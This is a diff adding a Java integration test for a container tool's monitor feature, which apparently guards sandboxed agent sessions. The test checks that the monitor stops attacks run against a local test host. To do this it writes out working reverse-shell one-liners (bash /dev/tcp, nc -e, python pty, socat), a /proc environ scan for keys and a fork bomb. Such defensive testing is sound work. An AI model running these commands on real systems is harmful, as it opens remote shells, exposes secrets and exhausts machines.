@@ -1,0 +1,182 @@
+package coi.monitor;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import coi.incus.IncusClient;
+import coi.network.TestHosts;
+import coi.testing.CoiProcess.Result;
+import coi.testing.Sandbox;
+import coi.testing.TestIncus;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Attacks from inside real containers under `--monitor`, aimed only at the test hosts in network
+ * namespaces ({@link TestHosts}: 198.51.100.10 holds reverse-shell connections open and logs how
+ * long each lived). Each reverse shell must be stopped within a second of its connection.
+ */
+@Tag("incus")
+class MonitorAttacksIT {
+    static final String HOST = TestHosts.INTERNET.getFirst();
+    static final int PORT = TestHosts.HOLD_PORTS.getFirst();
+    static TestHosts hosts;
+    static Path debs;
+
+    @BeforeAll
+    static void worldUp() throws Exception {
+        try (IncusClient incus = TestIncus.client()) {
+            hosts = new TestHosts(MonitorFixtures.gateway(incus));
+        }
+        debs = MonitorFixtures.attackTools();
+    }
+
+    @AfterAll
+    static void worldDown() {
+        if (hosts != null) hosts.close();
+    }
+
+    @Test
+    void reverseShellsInEveryFormAreStoppedWithinASecondOfTheirConnection() throws Exception {
+        String connect = HOST + " " + PORT;
+        Map<String, String> attacks = new java.util.LinkedHashMap<>();
+        attacks.put("bash /dev/tcp", "bash -i >& /dev/tcp/" + HOST + "/" + PORT + " 0>&1");
+        attacks.put("nc -e", "nc.traditional -e /bin/bash " + connect);
+        attacks.put("python pty", "python3 -c 'import socket,os,pty;s=socket.create_connection((\"" + HOST + "\"," + PORT
+                + "));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"bash\")'");
+        attacks.put("socat EXEC", "socat TCP:" + HOST + ":" + PORT + " EXEC:bash,pty,stderr,setsid");
+        // as root, in a form whose command line does not name the peer, so that it is caught by its connection
+        attacks.put("as root", "sudo " + attacks.get("python pty"));
+        try (Sandbox box = new Sandbox()) {
+            Path keep = Files.writeString(box.workspace.resolve("keep.txt"), "precious\n");
+            for (var attack : attacks.entrySet()) {
+                TestHosts.assertRoutedLocally();
+                int before = MonitorFixtures.closed(hosts.holdLog).size();
+                // from a script, so that the command line coi runs does not give the attack away before it connects
+                Files.writeString(box.workspace.resolve("attack.sh"), "sudo dpkg -i --force-depends /debs/*.deb >/dev/null 2>&1\necho mark > mark-"
+                        + attack.getKey().replaceAll("\\W", "_") + "\n" + attack.getValue() + "\n");
+                Result r = box.run("run", "--monitor", "--mount", debs + ":/debs", "--", "bash", "attack.sh");
+                assertThat(r.exitCode()).as(attack.getKey() + ": " + r).isNotZero();
+                List<String> coiLines = r.err().lines().filter(l -> l.startsWith("coi:")).toList();
+                assertThat(coiLines).as(attack.getKey() + ": one line naming the threat: " + r).singleElement()
+                        .satisfies(l -> assertThat(l).startsWith("coi: stopped by the monitor: reverse shell"));
+                List<Double> closed = MonitorFixtures.closed(hosts.holdLog);
+                assertThat(closed).as(attack.getKey() + ": the connection was made and ended").hasSize(before + 1);
+                double seconds = closed.getLast();
+                System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", attack.getKey(), seconds);
+                assertThat(seconds).as(attack.getKey() + " stopped within 1 s of its connection").isLessThan(1.0);
+                assertThat(Files.readString(keep)).isEqualTo("precious\n");
+                assertThat(box.workspace.resolve("mark-" + attack.getKey().replaceAll("\\W", "_"))).exists();
+                List<AuditEvent> killed = MonitorFixtures.audit(box).stream().filter(e -> e.action() == Action.KILLED).toList();
+                assertThat(killed).as(attack.getKey() + ": one audit line with evidence").hasSize(attacks.keySet().stream().toList()
+                        .indexOf(attack.getKey()) + 1);
+                AuditEvent last = killed.getLast();
+                assertThat(last.level()).isEqualTo(Level.CRITICAL);
+                assertThat(last.category()).isEqualTo(Threat.REVERSE_SHELL);
+                assertThat(last.evidence().process()).isNotNull();
+                assertThat(last.evidence().process().cmdline()).isNotEmpty();
+            }
+            assertThat(MonitorFixtures.audit(box).stream().filter(e -> e.action() == Action.KILLED).toList().getLast().evidence().process().uid())
+                    .as("the root attack is recorded with uid 0").isZero();
+        }
+    }
+
+    @Test
+    void aDetachedSessionIsWatchedAnEnvironmentScanIsAWarningAndAReverseShellStopsItWithTheSessionKept() throws Exception {
+        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
+            Result started = box.run("shell", "--detach", "--monitor");
+            assertThat(started.exitCode()).as(started.toString()).isZero();
+            String name = box.container(1);
+            assertThat(box.run("list").out()).contains(name).contains("[monitored]");
+
+            // a slow scan, one process after another, as an agent looping over /proc would
+            MonitorFixtures.inside(incus, name, 1000, "for p in /proc/[0-9]*/environ; do cat $p 2>/dev/null; sleep 0.05; done | tr '\\0' '\\n' | grep -i key; sleep 1");
+            MonitorFixtures.awaitAudit(box, e -> e.category().equals(Threat.CREDENTIALS), 10);
+            AuditEvent warning = MonitorFixtures.audit(box).stream().filter(e -> e.category().equals(Threat.CREDENTIALS)).findFirst().orElseThrow();
+            assertThat(warning.level()).isEqualTo(Level.WARNING);
+            assertThat(warning.action()).isEqualTo(Action.ALERTED);
+            assertThat(incus.instance(name).running()).as("a warning does not stop the container").isTrue();
+
+            Path sessionDir = box.sessionDirs().getFirst();
+            Path toolState = Files.writeString(sessionDir.resolve("state/conversation.jsonl"), "{\"turn\": 1}\n");
+            TestHosts.assertRoutedLocally();
+            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'bash -i >& /dev/tcp/" + HOST + "/" + PORT + " 0>&1'");
+            MonitorFixtures.awaitGone(incus, name, 10);
+            assertThat(MonitorFixtures.closed(hosts.holdLog).getLast()).as("stopped within 1 s of the connection").isLessThan(1.0);
+            System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", "detached", MonitorFixtures.closed(hosts.holdLog).getLast());
+            String metadata = Files.readString(sessionDir.resolve("metadata.json"));
+            assertThat(metadata).contains("\"status\" : \"ended\"").contains("\"stopped_by\" : \"monitor: reverse shell");
+            assertThat(Files.readString(toolState)).as("the tool's state survives").isEqualTo("{\"turn\": 1}\n");
+        }
+    }
+
+    @Test
+    void aLargeWorkspaceReadFreezesTheContainerListShowsWhyAndResumeLetsItCarryOn() throws Exception {
+        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
+            MonitorFixtures.bigFile(box.workspace.resolve("big.bin"), 200);
+            assertThat(box.run("shell", "--detach", "--monitor").exitCode()).isZero();
+            String name = box.container(1);
+            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'cat /workspace/big.bin > /dev/null; sleep 3; echo carried-on > /workspace/after.txt'");
+            MonitorFixtures.awaitStatus(incus, name, "Frozen", 10);
+            assertThat(MonitorFixtures.audit(box)).anySatisfy(e -> {
+                assertThat(e.action()).isEqualTo(Action.PAUSED);
+                assertThat(e.title()).startsWith("large workspace read");
+                assertThat(e.evidence().filesystem().bytes()).isGreaterThan(100L * 1024 * 1024);
+            });
+            Result list = box.run("list");
+            assertThat(list.out()).contains("Frozen").contains("frozen by the monitor: large workspace read");
+            Result resume = box.run("resume", name);
+            assertThat(resume.exitCode()).as(resume.toString()).isZero();
+            MonitorFixtures.awaitFile(box.workspace.resolve("after.txt"), 15);
+            assertThat(incus.instance(name).running()).isTrue();
+        }
+    }
+
+    @Test
+    void aForkBombIsStoppedAndTheHostStaysResponsive() throws Exception {
+        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
+            assertThat(box.run("shell", "--detach", "--monitor").exitCode()).isZero();
+            String name = box.container(1);
+            // the safety net on a 2-core machine: the kernel caps the bomb even if the monitor did not
+            incus.setConfig(name, "limits.processes", "2000");
+            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c ':(){ :|:& };:'");
+            long t0 = System.nanoTime();
+            MonitorFixtures.awaitGone(incus, name, 60);
+            System.out.printf("monitor response: %-14s container stopped %.3f s after the bomb started%n", "fork bomb", (System.nanoTime() - t0) / 1e9);
+            long h0 = System.nanoTime();
+            assertThat(new ProcessBuilder("true").start().waitFor()).isZero();
+            assertThat((System.nanoTime() - h0) / 1e9).as("the host answers").isLessThan(2.0);
+            assertThat(MonitorFixtures.audit(box)).anySatisfy(e -> {
+                assertThat(e.action()).isEqualTo(Action.KILLED);
+                assertThat(e.category()).isEqualTo(Threat.PROCESSES);
+            });
+        }
+    }
+
+    @Test
+    void anOrdinaryWorkloadIsNeitherFrozenNorKilledAndLogsNothingAboveWarning() throws Exception {
+        try (Sandbox box = new Sandbox()) {
+            MonitorFixtures.smallProject(box.workspace);
+            TestHosts.assertRoutedLocally();
+            Result r = box.run("run", "--monitor", "--mount", debs + ":/debs", String.join("\n",
+                    "set -e",
+                    "sudo dpkg -i --force-depends /debs/libpython3*.deb >/dev/null 2>&1",
+                    "python3 -m unittest -q test_calc 2>&1",
+                    "grep -rn 'def ' . | wc -l",
+                    "python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 & server=$!",
+                    "sleep 1; curl -s -o /dev/null -w 'dev server %{http_code}\\n' http://127.0.0.1:8000/",
+                    "curl -s --http0.9 http://" + HOST + "/",
+                    "for i in $(seq 1 20); do python3 -c 'print(1)' >/dev/null; done",
+                    "kill $server; sleep 1; echo done"));
+            assertThat(r.exitCode()).as(r.toString()).isZero();
+            assertThat(r.out()).contains("dev server 200").contains("coitest " + HOST).contains("done");
+            assertThat(MonitorFixtures.audit(box)).as("nothing above warning").allMatch(e -> e.level().compareTo(Level.WARNING) <= 0);
+            assertThat(MonitorFixtures.audit(box)).noneMatch(e -> e.action() == Action.KILLED || e.action() == Action.PAUSED);
+        }
+    }
+}
